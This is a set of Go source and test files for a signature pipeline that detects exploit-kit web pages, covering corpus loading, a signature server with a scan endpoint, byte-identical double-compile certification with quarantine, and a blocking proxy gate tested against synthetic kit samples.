	if err != nil {
		return fmt.Errorf("read known dir: %w", err)
	}
	n := 0
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		name := e.Name()
		cut := strings.IndexAny(name, ".-")
		if cut < 0 {
			cut = len(name)
		}
		body, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		c.AddKnown(name[:cut], string(body))
		n++
	}
	if n == 0 {
		return fmt.Errorf("no known payloads in %s", dir)
	}
	return nil
}

func readSamples(dir string) ([]kizzle.Sample, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("read samples dir: %w", err)
	}
	var out []kizzle.Sample
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		ext := strings.ToLower(filepath.Ext(e.Name()))
		if ext != ".html" && ext != ".htm" && ext != ".js" {
			continue
		}
		body, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			return nil, err
		}
		out = append(out, kizzle.Sample{ID: e.Name(), Content: string(body)})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	if len(out) == 0 {
		return nil, fmt.Errorf("no samples in %s", dir)
	}
	return out, nil
}
