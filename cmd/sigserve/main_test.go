package main

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"kizzle/gateway"
	"kizzle/sigdb"
	"kizzle/synth"
)

// writeCorpus writes a day's samples and known payloads to temp dirs.
func writeCorpus(t *testing.T) (samplesDir, knownDir string) {
	t.Helper()
	samplesDir, knownDir = t.TempDir(), t.TempDir()
	day := synth.Date(time.August, 5)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(day) {
		if err := os.WriteFile(filepath.Join(samplesDir, s.ID+".html"), []byte(s.Content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range synth.Kits() {
		name := strings.ReplaceAll(f.String(), " ", "") + ".txt"
		if err := os.WriteFile(filepath.Join(knownDir, name), []byte(synth.Payload(f, day-1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return samplesDir, knownDir
}

func TestRunValidation(t *testing.T) {
	if err := run(nil, nil); err == nil {
		t.Error("missing -store must fail")
	}
	if err := run([]string{"-store", "x.json", "-samples", "dir"}, nil); err == nil {
		t.Error("-samples without -known must fail")
	}
	if err := run([]string{"-store", "x.json", "-certify"}, nil); err == nil {
		t.Error("-certify without -samples must fail")
	}
	if err := run([]string{"-store", "x.json", "-certkey", "k"}, nil); err == nil {
		t.Error("-certkey without -certify must fail")
	}
	if err := run([]string{"-store", "x.json", "-certverify", "fleet"}, nil); err == nil {
		t.Error("-certverify without -certify must fail")
	}
	if err := run([]string{"-store", "x.json", "-certseed", "7"}, nil); err == nil {
		t.Error("-certseed without -certify must fail")
	}
	if err := run([]string{"-store", "x.json", "-samples", "d", "-known", "k",
		"-certify", "-certverify", "fleet"}, nil); err == nil {
		t.Error("-certverify fleet without -shards must fail")
	}
}

// TestServeEndToEnd compiles from a corpus, serves the store, and fetches
// it with the sigdb client; the restored snapshot must detect kit traffic.
func TestServeEndToEnd(t *testing.T) {
	samplesDir, knownDir := writeCorpus(t)
	storePath := filepath.Join(t.TempDir(), "sigs.json")

	ready := make(chan http.Handler, 1)
	go func() {
		if err := run([]string{
			"-store", storePath, "-samples", samplesDir, "-known", knownDir,
		}, ready); err != nil {
			t.Error(err)
		}
	}()
	var handler http.Handler
	select {
	case handler = <-ready:
	case <-time.After(30 * time.Second):
		t.Fatal("server never became ready")
	}
	srv := httptest.NewServer(handler)
	defer srv.Close()

	// Health endpoint reports the published version.
	resp, err := http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	health, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(health), "ok v1") {
		t.Errorf("healthz = %q", health)
	}

	// A consumer fetches and compiles the snapshot.
	client := &sigdb.Client{URL: srv.URL + "/signatures"}
	snap, updated, err := client.Fetch(context.Background())
	if err != nil || !updated {
		t.Fatalf("fetch: updated=%v err=%v", updated, err)
	}
	m, _, err := snap.Matcher()
	if err != nil {
		t.Fatal(err)
	}
	day := synth.Date(time.August, 5)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	detected, total := 0, 0
	for _, s := range stream.Day(day) {
		total++
		if m.Detects(s.Content) {
			detected++
		}
	}
	if detected < total*3/4 {
		t.Errorf("fetched signatures detect %d/%d same-day kit samples", detected, total)
	}
	// The store file was persisted for restarts.
	if _, err := os.Stat(storePath); err != nil {
		t.Errorf("store not persisted: %v", err)
	}
}

// TestScanEndpoint: the publisher's bulk /scan endpoint vets a batch of
// documents against the currently published set.
func TestScanEndpoint(t *testing.T) {
	samplesDir, knownDir := writeCorpus(t)
	storePath := filepath.Join(t.TempDir(), "sigs.json")

	ready := make(chan http.Handler, 1)
	go func() {
		if err := run([]string{
			"-store", storePath, "-samples", samplesDir, "-known", knownDir,
		}, ready); err != nil {
			t.Error(err)
		}
	}()
	var handler http.Handler
	select {
	case handler = <-ready:
	case <-time.After(30 * time.Second):
		t.Fatal("server never became ready")
	}
	srv := httptest.NewServer(handler)
	defer srv.Close()

	day := synth.Date(time.August, 5)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	docs := []string{`<html><body>hello benign world</body></html>`}
	for _, s := range stream.Day(day) {
		if len(docs) >= 9 {
			break
		}
		docs = append(docs, s.Content)
	}
	// One document over the per-document cap: skipped, and the verdict
	// must say so on the wire — "clean" and "never scanned" are different
	// answers.
	oversizedAt := len(docs)
	docs = append(docs, strings.Repeat(" ", int(gateway.DefaultMaxScanBytes)+1))
	body, err := json.Marshal(scanRequest{Documents: docs})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(srv.URL+"/scan", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	var got scanResponse
	if err := json.NewDecoder(resp.Body).Decode(&got); err != nil {
		t.Fatal(err)
	}
	if got.Version != 1 {
		t.Errorf("version = %d, want 1", got.Version)
	}
	if len(got.Verdicts) != len(docs) {
		t.Fatalf("verdicts = %d, want %d", len(got.Verdicts), len(docs))
	}
	if got.Verdicts[0].Blocked {
		t.Error("benign document blocked")
	}
	if v := got.Verdicts[oversizedAt]; v.Blocked || v.Skipped != "oversized" {
		t.Errorf("oversized verdict = %+v, want skipped:\"oversized\"", v)
	}
	blocked := 0
	for i, v := range got.Verdicts[1:] {
		if 1+i != oversizedAt && v.Skipped != "" {
			t.Errorf("in-cap document %d marked skipped %q", 1+i, v.Skipped)
		}
		if v.Blocked {
			blocked++
			if v.Family == "" {
				t.Error("blocked verdict without family")
			}
		}
	}
	if blocked < (len(docs)-2)*3/4 {
		t.Errorf("blocked %d/%d kit documents", blocked, len(docs)-2)
	}

	// GET is rejected.
	getResp, err := http.Get(srv.URL + "/scan")
	if err != nil {
		t.Fatal(err)
	}
	getResp.Body.Close()
	if getResp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET /scan status = %d", getResp.StatusCode)
	}
}
