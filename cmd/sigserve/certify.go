package main

// Publish certification: diverse double-compiling for the signature
// pipeline. With -certify, every candidate signature set the primary
// compiler produces is recompiled from the same input corpus by a second,
// freshly-constructed compiler driven through an intentionally different
// execution path — in-process instead of fleet, batch instead of
// streaming dispatch, a seeded permutation of the partition and edge
// schedule, affinity off — and the publish lands only when the two paths
// agree byte for byte. A compromised or flaky shard worker, a
// schedule-dependent pipeline bug, or a corrupted warm cache shows up as
// a disagreement: the set is quarantined with both artifacts in the
// audit log, the serving version never moves, and the operator gets both
// sides to diff.

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"

	"kizzle"
	"kizzle/sigdb"
)

// errQuarantined marks a certification failure: nothing was installed
// and the prior version keeps serving. The recompile loop (and the
// startup path) treats it as a logged condition, not a fatal error — a
// disagreeing publish must never take the serving store down with it.
var errQuarantined = errors.New("publish quarantined: certification paths disagreed")

// pathSpec describes one compile execution path. The zero value is the
// plain in-process streaming path. Output-sensitive knobs (partition
// fanout) must be identical across the primary and verification specs —
// they change the compiled set by design, not by defect — while every
// output-invariant knob (mode, dispatch, schedule seed, affinity) is
// fair game for diversity.
type pathSpec struct {
	shardURLs  []string
	dispatch   string // "stream" (or "") / "batch"
	fanout     int
	noAffinity bool
	seed       int64
	// profiles lists the ingest workloads this path compiles (empty means
	// the default JS workload). Like fanout it is output-sensitive and
	// identical across primary and verification specs.
	profiles []string
}

// mode names where clustering runs.
func (p pathSpec) mode() string {
	if len(p.shardURLs) > 0 {
		return "fleet"
	}
	return "in-process"
}

// descriptor renders the spec for attestations and quarantine records.
func (p pathSpec) descriptor() sigdb.PathDescriptor {
	d := sigdb.PathDescriptor{
		Mode:     p.mode(),
		Shards:   len(p.shardURLs),
		Dispatch: p.dispatch,
		Seed:     p.seed,
	}
	if d.Dispatch == "" {
		d.Dispatch = "stream"
	}
	d.Affinity = len(p.shardURLs) > 0 && !p.noAffinity && d.Dispatch == "stream"
	// A JS-only path keeps the pre-profile descriptor form, so existing
	// attestation consumers see unchanged records.
	if len(p.profiles) > 0 && !(len(p.profiles) == 1 && p.profiles[0] == "js") {
		d.Profile = strings.Join(p.profiles, ",")
	}
	return d
}

// options translates the spec into compiler options.
func (p pathSpec) options() []kizzle.Option {
	var opts []kizzle.Option
	if len(p.shardURLs) > 0 {
		opts = append(opts, kizzle.WithShardWorkers(p.shardURLs...))
	}
	if p.dispatch == "batch" {
		opts = append(opts, kizzle.WithBatchDispatch())
	}
	if p.fanout > 0 {
		opts = append(opts, kizzle.WithPartitionFanout(p.fanout))
	}
	if p.noAffinity {
		opts = append(opts, kizzle.WithoutShardAffinity())
	}
	if p.seed != 0 {
		opts = append(opts, kizzle.WithScheduleSeed(p.seed))
	}
	return opts
}

// workloadOptions translates the spec into compiler options for one
// ingest workload: the shared path options plus the profile selection
// (the default JS profile is left implicit, keeping cache keys and wire
// requests in their pre-profile form).
func (p pathSpec) workloadOptions(profile string) []kizzle.Option {
	opts := p.options()
	if profile != "" && profile != "js" {
		opts = append(opts, kizzle.WithProfile(profile))
	}
	return opts
}

// certConfig is the publisher's certification setup: the verification
// path and, optionally, the attestation signing key (installed on the
// store, recorded here only for documentation of intent).
type certConfig struct {
	verify pathSpec
}

// verifyPathSpec derives the verification path from the primary: flip
// the dispatch mode, permute the schedule, and — in fleet mode — invert
// affinity, while pinning the output-sensitive fanout. mode selects
// where the verifier runs: "inprocess" (the strongest diversity against
// a misbehaving fleet: no worker touches the second compile) or "fleet"
// (re-dispatches across the same workers on a permuted, affinity-less
// schedule, so no worker sees the same units in the same role twice).
func verifyPathSpec(primary pathSpec, mode string, seed int64) (pathSpec, error) {
	v := pathSpec{fanout: primary.fanout, seed: seed, profiles: primary.profiles}
	if primary.dispatch == "batch" {
		v.dispatch = "stream"
	} else {
		v.dispatch = "batch"
	}
	switch mode {
	case "inprocess":
	case "fleet":
		if len(primary.shardURLs) == 0 {
			return pathSpec{}, fmt.Errorf("-certverify fleet requires -shards")
		}
		v.shardURLs = primary.shardURLs
		v.noAffinity = !primary.noAffinity
	default:
		return pathSpec{}, fmt.Errorf("-certverify %q must be inprocess or fleet", mode)
	}
	return v, nil
}

// corpusDigest fingerprints the exact compile input across every
// workload: each profile marker (elided for the default JS workload, so
// single-JS digests keep their pre-profile values), every known payload
// (in the deterministic seeding order), and every sample (in processing
// order), length-prefixed so boundaries cannot alias.
func corpusDigest(runs []workloadRun) string {
	h := sha256.New()
	var n [8]byte
	put := func(s string) {
		binary.LittleEndian.PutUint64(n[:], uint64(len(s)))
		h.Write(n[:])
		io.WriteString(h, s)
	}
	for _, run := range runs {
		if run.w.profile != "js" {
			put("profile:" + run.w.profile)
		}
		for _, name := range run.w.knownNames {
			put(name)
			put(run.w.knownBodies[name])
		}
		for _, s := range run.samples {
			put(s.ID)
			put(s.Content)
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}

// certify runs the verification compiles and gates the publish on
// bit-identical agreement. One verifier per workload is constructed
// fresh each cycle — cold caches, its own clustering path — and seeded
// with the same known corpus in the same deterministic order, so the
// only thing the two compiles share is their input; the concatenated
// verification set is compared against the primary's concatenated set,
// so one digest covers the whole mixed-workload publish. Agreement
// publishes with an attestation; disagreement records a quarantine
// carrying both artifacts and returns errQuarantined without touching
// the serving version.
func (p *publisher) certify(runs []workloadRun, allSigs []kizzle.Signature) (version int64, changed bool, err error) {
	var verifySigs []kizzle.Signature
	for _, run := range runs {
		verifier := kizzle.New(p.cert.verify.workloadOptions(run.w.profile)...)
		for _, name := range run.w.knownNames {
			verifier.AddKnown(run.w.familyLabel(name), run.w.knownBodies[name])
		}
		vres, err := verifier.Process(run.samples)
		if err != nil {
			return 0, false, fmt.Errorf("verification compile (%s, %s): %w",
				run.w.profile, p.cert.verify.descriptor(), err)
		}
		verifySigs = append(verifySigs, vres.Signatures...)
	}
	primaryDigest, err := sigdb.SetDigest(allSigs, nil)
	if err != nil {
		return 0, false, err
	}
	verifyDigest, err := sigdb.SetDigest(verifySigs, nil)
	if err != nil {
		return 0, false, err
	}
	corpus := corpusDigest(runs)
	if primaryDigest == verifyDigest {
		version, changed, _, err = p.store.PublishAttested(allSigs, nil,
			corpus, p.primary.descriptor(), p.cert.verify.descriptor())
		if err == nil {
			p.certified.Add(1)
		}
		return version, changed, err
	}
	primarySet, err := json.Marshal(allSigs)
	if err != nil {
		return 0, false, fmt.Errorf("marshal primary artifact: %w", err)
	}
	verifySet, err := json.Marshal(verifySigs)
	if err != nil {
		return 0, false, fmt.Errorf("marshal verification artifact: %w", err)
	}
	q := sigdb.Quarantine{
		CorpusDigest:  corpus,
		Primary:       p.primary.descriptor(),
		Verify:        p.cert.verify.descriptor(),
		PrimaryDigest: primaryDigest,
		VerifyDigest:  verifyDigest,
		PrimarySet:    primarySet,
		VerifySet:     verifySet,
		Reason: fmt.Sprintf("recompile verification failed: %s produced %.12s.., %s produced %.12s..",
			p.primary.descriptor(), primaryDigest, p.cert.verify.descriptor(), verifyDigest),
	}
	if err := p.store.RecordQuarantine(q); err != nil {
		return 0, false, fmt.Errorf("record quarantine: %w", err)
	}
	p.quarantined.Add(1)
	return 0, false, fmt.Errorf("%w: %s produced %.12s.., %s produced %.12s.. (serving v%d unchanged)",
		errQuarantined, p.primary.descriptor(), primaryDigest,
		p.cert.verify.descriptor(), verifyDigest, p.store.Version())
}
