package main

// Publish certification: diverse double-compiling for the signature
// pipeline. With -certify, every candidate signature set the primary
// compiler produces is recompiled from the same input corpus by a second,
// freshly-constructed compiler driven through an intentionally different
// execution path — in-process instead of fleet, batch instead of
// streaming dispatch, a seeded permutation of the partition and edge
// schedule, affinity off — and the publish lands only when the two paths
// agree byte for byte. A compromised or flaky shard worker, a
// schedule-dependent pipeline bug, or a corrupted warm cache shows up as
// a disagreement: the set is quarantined with both artifacts in the
// audit log, the serving version never moves, and the operator gets both
// sides to diff.

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"

	"kizzle"
	"kizzle/sigdb"
)

// errQuarantined marks a certification failure: nothing was installed
// and the prior version keeps serving. The recompile loop (and the
// startup path) treats it as a logged condition, not a fatal error — a
// disagreeing publish must never take the serving store down with it.
var errQuarantined = errors.New("publish quarantined: certification paths disagreed")

// pathSpec describes one compile execution path. The zero value is the
// plain in-process streaming path. Output-sensitive knobs (partition
// fanout) must be identical across the primary and verification specs —
// they change the compiled set by design, not by defect — while every
// output-invariant knob (mode, dispatch, schedule seed, affinity) is
// fair game for diversity.
type pathSpec struct {
	shardURLs  []string
	dispatch   string // "stream" (or "") / "batch"
	fanout     int
	noAffinity bool
	seed       int64
}

// mode names where clustering runs.
func (p pathSpec) mode() string {
	if len(p.shardURLs) > 0 {
		return "fleet"
	}
	return "in-process"
}

// descriptor renders the spec for attestations and quarantine records.
func (p pathSpec) descriptor() sigdb.PathDescriptor {
	d := sigdb.PathDescriptor{
		Mode:     p.mode(),
		Shards:   len(p.shardURLs),
		Dispatch: p.dispatch,
		Seed:     p.seed,
	}
	if d.Dispatch == "" {
		d.Dispatch = "stream"
	}
	d.Affinity = len(p.shardURLs) > 0 && !p.noAffinity && d.Dispatch == "stream"
	return d
}

// options translates the spec into compiler options.
func (p pathSpec) options() []kizzle.Option {
	var opts []kizzle.Option
	if len(p.shardURLs) > 0 {
		opts = append(opts, kizzle.WithShardWorkers(p.shardURLs...))
	}
	if p.dispatch == "batch" {
		opts = append(opts, kizzle.WithBatchDispatch())
	}
	if p.fanout > 0 {
		opts = append(opts, kizzle.WithPartitionFanout(p.fanout))
	}
	if p.noAffinity {
		opts = append(opts, kizzle.WithoutShardAffinity())
	}
	if p.seed != 0 {
		opts = append(opts, kizzle.WithScheduleSeed(p.seed))
	}
	return opts
}

// certConfig is the publisher's certification setup: the verification
// path and, optionally, the attestation signing key (installed on the
// store, recorded here only for documentation of intent).
type certConfig struct {
	verify pathSpec
}

// verifyPathSpec derives the verification path from the primary: flip
// the dispatch mode, permute the schedule, and — in fleet mode — invert
// affinity, while pinning the output-sensitive fanout. mode selects
// where the verifier runs: "inprocess" (the strongest diversity against
// a misbehaving fleet: no worker touches the second compile) or "fleet"
// (re-dispatches across the same workers on a permuted, affinity-less
// schedule, so no worker sees the same units in the same role twice).
func verifyPathSpec(primary pathSpec, mode string, seed int64) (pathSpec, error) {
	v := pathSpec{fanout: primary.fanout, seed: seed}
	if primary.dispatch == "batch" {
		v.dispatch = "stream"
	} else {
		v.dispatch = "batch"
	}
	switch mode {
	case "inprocess":
	case "fleet":
		if len(primary.shardURLs) == 0 {
			return pathSpec{}, fmt.Errorf("-certverify fleet requires -shards")
		}
		v.shardURLs = primary.shardURLs
		v.noAffinity = !primary.noAffinity
	default:
		return pathSpec{}, fmt.Errorf("-certverify %q must be inprocess or fleet", mode)
	}
	return v, nil
}

// corpusDigest fingerprints the exact compile input: every known payload
// (in the deterministic seeding order) and every sample (in processing
// order), length-prefixed so boundaries cannot alias.
func (p *publisher) corpusDigest(samples []kizzle.Sample) string {
	h := sha256.New()
	var n [8]byte
	put := func(s string) {
		binary.LittleEndian.PutUint64(n[:], uint64(len(s)))
		h.Write(n[:])
		io.WriteString(h, s)
	}
	for _, name := range p.knownNames {
		put(name)
		put(p.knownBodies[name])
	}
	for _, s := range samples {
		put(s.ID)
		put(s.Content)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// certify runs the verification compile and gates the publish on
// bit-identical agreement. The verifier is constructed fresh each cycle
// — cold caches, its own clustering path — and seeded with the same
// known corpus in the same deterministic order, so the only thing the
// two compiles share is their input. Agreement publishes with an
// attestation; disagreement records a quarantine carrying both artifacts
// and returns errQuarantined without touching the serving version.
func (p *publisher) certify(samples []kizzle.Sample, res *kizzle.Result) (version int64, changed bool, err error) {
	verifier := kizzle.New(p.cert.verify.options()...)
	for _, name := range p.knownNames {
		verifier.AddKnown(knownFamily(name), p.knownBodies[name])
	}
	vres, err := verifier.Process(samples)
	if err != nil {
		return 0, false, fmt.Errorf("verification compile (%s): %w", p.cert.verify.descriptor(), err)
	}
	primaryDigest, err := sigdb.SetDigest(res.Signatures, nil)
	if err != nil {
		return 0, false, err
	}
	verifyDigest, err := sigdb.SetDigest(vres.Signatures, nil)
	if err != nil {
		return 0, false, err
	}
	corpus := p.corpusDigest(samples)
	if primaryDigest == verifyDigest {
		version, changed, _, err = p.store.PublishAttested(res.Signatures, nil,
			corpus, p.primary.descriptor(), p.cert.verify.descriptor())
		if err == nil {
			p.certified.Add(1)
		}
		return version, changed, err
	}
	primarySet, err := json.Marshal(res.Signatures)
	if err != nil {
		return 0, false, fmt.Errorf("marshal primary artifact: %w", err)
	}
	verifySet, err := json.Marshal(vres.Signatures)
	if err != nil {
		return 0, false, fmt.Errorf("marshal verification artifact: %w", err)
	}
	q := sigdb.Quarantine{
		CorpusDigest:  corpus,
		Primary:       p.primary.descriptor(),
		Verify:        p.cert.verify.descriptor(),
		PrimaryDigest: primaryDigest,
		VerifyDigest:  verifyDigest,
		PrimarySet:    primarySet,
		VerifySet:     verifySet,
		Reason: fmt.Sprintf("recompile verification failed: %s produced %.12s.., %s produced %.12s..",
			p.primary.descriptor(), primaryDigest, p.cert.verify.descriptor(), verifyDigest),
	}
	if err := p.store.RecordQuarantine(q); err != nil {
		return 0, false, fmt.Errorf("record quarantine: %w", err)
	}
	p.quarantined.Add(1)
	return 0, false, fmt.Errorf("%w: %s produced %.12s.., %s produced %.12s.. (serving v%d unchanged)",
		errQuarantined, p.primary.descriptor(), primaryDigest,
		p.cert.verify.descriptor(), verifyDigest, p.store.Version())
}
