package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"kizzle"
	"kizzle/sigdb"
	"kizzle/synth"
)

func TestRunValidation(t *testing.T) {
	if err := run([]string{"-sigfile", "x.json"}, nil); err == nil {
		t.Error("missing -upstream must fail")
	}
	if err := run([]string{"-upstream", "http://x"}, nil); err == nil {
		t.Error("missing signature source must fail")
	}
	if err := run([]string{"-upstream", "://bad", "-sigfile", "x.json"}, nil); err == nil {
		t.Error("bad upstream URL must fail")
	}
	if err := run([]string{"-upstream", "http://x", "-sigfile", "x.json", "-strict"}, nil); err == nil {
		t.Error("-strict without -sigurl must fail")
	}
	if err := run([]string{"-upstream", "http://x", "-sigurl", "http://s", "-certkey", "k"}, nil); err == nil {
		t.Error("-certkey without -strict must fail")
	}
	if err := run([]string{"-upstream", "http://x", "-sigurl", "http://s", "-attesturl", "http://a"}, nil); err == nil {
		t.Error("-attesturl without -strict must fail")
	}
	// A missing sigfile opens as an empty store; use the ready hook so no
	// listener is bound.
	ready := make(chan http.Handler, 1)
	if err := run([]string{"-upstream", "http://x", "-sigfile", filepath.Join(t.TempDir(), "missing.json")}, ready); err != nil {
		t.Errorf("missing sigfile should start empty, got %v", err)
	}
	<-ready
}

// TestGateEndToEnd builds a signature file from the synthetic stream and
// verifies the configured proxy handler blocks a kit landing page.
func TestGateEndToEnd(t *testing.T) {
	day := synth.Date(time.August, 5)

	// Train and persist signatures.
	c := kizzle.New(kizzle.WithSignatureSlack(2))
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 40
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	var kitDoc string
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
		if s.Family == synth.Angler && kitDoc == "" {
			kitDoc = s.Content
		}
	}
	res, err := c.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	sigPath := filepath.Join(t.TempDir(), "sigs.json")
	store, err := sigdb.Open(sigPath)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.Replace(res.Signatures, nil); err != nil {
		t.Fatal(err)
	}

	// Upstream origin serving the kit page and a benign page.
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/landing" {
			io.WriteString(w, kitDoc)
			return
		}
		io.WriteString(w, "<html><body>ok</body></html>")
	}))
	defer upstream.Close()

	// Obtain the configured handler through the test hook.
	ready := make(chan http.Handler, 1)
	go func() {
		if err := run([]string{"-upstream", upstream.URL, "-sigfile", sigPath}, ready); err != nil {
			t.Error(err)
		}
	}()
	var handler http.Handler
	select {
	case handler = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatal("gate never became ready")
	}
	front := httptest.NewServer(handler)
	defer front.Close()

	resp, err := http.Get(front.URL + "/landing")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("kit landing status = %d, want 403", resp.StatusCode)
	}
	resp, err = http.Get(front.URL + "/ok")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("benign page status = %d, want 200", resp.StatusCode)
	}
}

// TestGateMetricsAndSigurl runs the gate against a live signature server
// and an origin, with the metrics endpoint enabled: the ready hook hands
// back both handlers, the gate is armed from the server before ready (no
// unprotected window), and /metrics reports the serving counters.
func TestGateMetricsAndSigurl(t *testing.T) {
	day := synth.Date(time.August, 5)

	c := kizzle.New(kizzle.WithSignatureSlack(2))
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 40
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	var kitDoc string
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
		if s.Family == synth.Angler && kitDoc == "" {
			kitDoc = s.Content
		}
	}
	res, err := c.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	store, err := sigdb.Open(filepath.Join(t.TempDir(), "sigs.json"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.Replace(res.Signatures, nil); err != nil {
		t.Fatal(err)
	}
	sigServer := httptest.NewServer(store.Handler())
	defer sigServer.Close()

	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/landing" {
			io.WriteString(w, kitDoc)
			return
		}
		io.WriteString(w, "<html><body>ok</body></html>")
	}))
	defer upstream.Close()

	ready := make(chan http.Handler, 2)
	go func() {
		if err := run([]string{
			"-upstream", upstream.URL,
			"-sigurl", sigServer.URL + "/signatures",
			"-metricslisten", "127.0.0.1:0",
		}, ready); err != nil {
			t.Error(err)
		}
	}()
	var proxy, metrics http.Handler
	for i := 0; i < 2; i++ {
		select {
		case h := <-ready:
			if proxy == nil {
				proxy = h
			} else {
				metrics = h
			}
		case <-time.After(5 * time.Second):
			t.Fatal("gate never became ready")
		}
	}

	front := httptest.NewServer(proxy)
	defer front.Close()
	resp, err := http.Get(front.URL + "/landing")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("kit landing status = %d, want 403 (gate must be armed at ready)", resp.StatusCode)
	}
	resp, err = http.Get(front.URL + "/ok")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("benign page status = %d, want 200", resp.StatusCode)
	}

	rec := httptest.NewRecorder()
	metrics.ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("metrics status = %d", rec.Code)
	}
	var m struct {
		Vetter struct {
			DocsScanned int64 `json:"scanned"`
			DocsBlocked int64 `json:"blocked"`
			SigVersion  int64 `json:"matcher_version"`
		} `json:"vetter"`
		Admitter struct {
			Requests int64 `json:"requests"`
		} `json:"admitter"`
		Sigclient struct {
			FetchesFull int64 `json:"fetches_full"`
		} `json:"sigclient"`
		Runtime map[string]any `json:"runtime"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &m); err != nil {
		t.Fatalf("metrics not JSON: %v\n%s", err, rec.Body.String())
	}
	if m.Vetter.DocsScanned != 2 || m.Vetter.DocsBlocked != 1 {
		t.Errorf("vetter metrics scanned/blocked = %d/%d, want 2/1", m.Vetter.DocsScanned, m.Vetter.DocsBlocked)
	}
	if m.Vetter.SigVersion != 1 {
		t.Errorf("matcher_version = %d, want 1", m.Vetter.SigVersion)
	}
	if m.Admitter.Requests != 2 {
		t.Errorf("admitter requests = %d, want 2", m.Admitter.Requests)
	}
	if m.Sigclient.FetchesFull != 1 {
		t.Errorf("sigclient fetches_full = %d, want 1", m.Sigclient.FetchesFull)
	}
	if len(m.Runtime) == 0 {
		t.Error("runtime stats missing")
	}
}

// TestGateStrictAttestation runs the gate in strict mode against two
// publishers. The certified one (attested publish, shared HMAC key, the
// attest endpoint derived from -sigurl) arms the gate and blocks kit
// traffic; the uncertified one is refused — the strict gate deploys
// nothing from it and counts the rejection.
func TestGateStrictAttestation(t *testing.T) {
	day := synth.Date(time.August, 5)
	c := kizzle.New(kizzle.WithSignatureSlack(2))
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 40
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	var kitDoc string
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
		if s.Family == synth.Angler && kitDoc == "" {
			kitDoc = s.Content
		}
	}
	res, err := c.Process(batch)
	if err != nil {
		t.Fatal(err)
	}

	key := "gate-strict-key"
	certified := sigdb.New()
	certified.SetCertKey([]byte(key))
	primary := sigdb.PathDescriptor{Mode: "fleet", Shards: 2, Dispatch: "stream", Affinity: true}
	verify := sigdb.PathDescriptor{Mode: "in-process", Dispatch: "batch", Seed: 7}
	if _, _, _, err := certified.PublishAttested(res.Signatures, nil, "corpus", primary, verify); err != nil {
		t.Fatal(err)
	}
